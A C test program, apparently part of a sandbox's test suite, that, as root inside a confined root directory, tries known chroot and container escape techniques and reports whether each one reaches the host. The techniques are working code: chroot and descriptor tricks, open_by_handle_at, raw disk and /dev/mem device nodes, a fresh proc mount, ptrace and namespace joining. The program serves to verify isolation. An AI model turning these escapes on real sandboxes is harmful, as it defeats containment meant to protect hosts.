/*
 * Ways out of a root directory, for somebody who is root in there. Tries each, and prints `reached NAME` or
 * `refused NAME`. Natively, in a chroot, many of them work: that is the control. Nothing that is tried changes
 * the host, except for a mount, which is why the control runs in a mount namespace of its own.
 *
 *   escape FILE CONTENT SOCKET PORT PID DEVICE
 *
 * FILE is a file of the host that is not in the root, and CONTENT what it says; SOCKET an abstract Unix
 * socket that somebody on the host listens on, PORT a TCP port likewise; PID a process of the host;
 * DEVICE the number of the disk that FILE is on.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *content;

static void report(const char *name, int reached) {
    printf("%s %s\n", reached ? "reached" : "refused", name);
    fflush(stdout);
}

/* Whether path can be read, and says what the file says. */
static int reads(const char *path) {
    char buffer[256] = {0};
    int fd = open(path, O_RDONLY);
    int same = fd >= 0 && read(fd, buffer, sizeof buffer - 1) > 0 && !strncmp(buffer, content, strlen(content));
    if (fd >= 0) close(fd);
    return same;
}

/* The same, from far above whatever the working directory is. */
static int reads_from_above(const char *file) {
    char path[4096] = "";
    for (int i = 0; i < 40; i++) strcat(path, "../");
    strcat(path, file + 1);
    return reads(path);
}

/* In a child, so that one attempt does not change what the next one starts from. */
#define TRY(name, body) do { \
    fflush(stdout); \
    pid_t child_ = fork(); \
    int status_ = -1; \
    if (child_ == 0) { alarm(10); _exit(({ body; }) ? 42 : 1); } \
    if (child_ > 0) waitpid(child_, &status_, 0); \
    report(name, WIFEXITED(status_) && WEXITSTATUS(status_) == 42); \
} while (0)

/* chroot(2) does not change the working directory. */
static int second_chroot(const char *file) {
    mkdir("below", 0700);
    return !chroot("below") && reads_from_above(file);
}

/* An open directory from before a chroot(2). */
static int kept_directory(const char *file) {
    int top = open("/", O_RDONLY | O_DIRECTORY);
    mkdir("/below", 0700);
    return !chroot("/below") && !fchdir(top) && reads_from_above(file);
}

/* A file by the number of its inode, if the file systems are the same. */
static int by_handle(void) {
    struct { struct file_handle head; unsigned long inode; unsigned generation; } handle;
    memset(&handle, 0, sizeof handle);
    handle.head.handle_bytes = 8;
    handle.head.handle_type = 1;
    handle.inode = 2; /* the root of an ext4 */
    int top = open("/", O_RDONLY | O_DIRECTORY);
    return open_by_handle_at(top, &handle.head, O_RDONLY) >= 0;
}

static int raw_disk(dev_t device) {
    char buffer[4096];
    mknod("/disk", S_IFBLK | 0600, device);
    int fd = open("/disk", O_RDONLY);
    return fd >= 0 && read(fd, buffer, sizeof buffer) == sizeof buffer;
}

static int foreign_proc(const char *file) {
    char path[4200];
    mkdir("/foreign", 0700);
    if (mount("proc", "/foreign", "proc", 0, NULL)) return 0;
    snprintf(path, sizeof path, "/foreign/1/root%s", file);
    return reads(path);
}

static int abstract_socket(const char *name) {
    struct sockaddr_un to = {.sun_family = AF_UNIX};
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    strncpy(to.sun_path + 1, name, sizeof to.sun_path - 2);
    return !connect(fd, (void *)&to, sizeof(sa_family_t) + 1 + strlen(name));
}

static int tcp(int port) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    return !connect(socket(AF_INET, SOCK_STREAM, 0), (void *)&to, sizeof to);
}

static int old_descriptors(const char *file) {
    for (int fd = 3; fd < 256; fd++)
        if (!fchdir(fd) && reads_from_above(file)) return 1;
    return 0;
}

int main(int argc, char **argv) {
    if (argc != 7) return 2;
    const char *file = argv[1];
    int pid = atoi(argv[5]);
    content = argv[2];
    TRY("the path", reads(file));
    TRY("the path from above", reads_from_above(file));
    TRY("writing it", open(file, O_WRONLY | O_APPEND) >= 0);
    TRY("a link to it", (unlink("/link"), symlink(file, "/link"), reads("/link")));
    TRY("a second chroot", second_chroot(file));
    TRY("a kept directory", kept_directory(file));
    TRY("an inherited descriptor", old_descriptors(file));
    TRY("a handle", by_handle());
    TRY("the disk", raw_disk(strtoul(argv[6], NULL, 10)));
    TRY("a proc of its own", foreign_proc(file));
    TRY("an abstract socket", abstract_socket(argv[3]));
    TRY("a port", tcp(atoi(argv[4])));
    TRY("a signal", !kill(pid, 0));
    TRY("ptrace", !ptrace(PTRACE_SEIZE, pid, 0, 0));
    TRY("its memory", ({ char c; struct iovec { void *p; size_t n; } l = {&c, 1}, r = {argv, 1};
        syscall(SYS_process_vm_readv, pid, &l, 1, &r, 1, 0) >= 0 || errno == EFAULT; }));
    TRY("its namespaces", ({ int fd = syscall(SYS_pidfd_open, pid, 0); fd >= 0 && !setns(fd, CLONE_NEWUTS); }));
    TRY("the host's memory", (mknod("/mem", S_IFCHR | 0600, makedev(1, 1)), open("/mem", O_RDONLY) >= 0));
    TRY("a kernel module", syscall(SYS_finit_module, open("/below", O_RDONLY), "", 0) == 0 || errno == EINVAL);
    report("the end", 1);
    return 0;
}
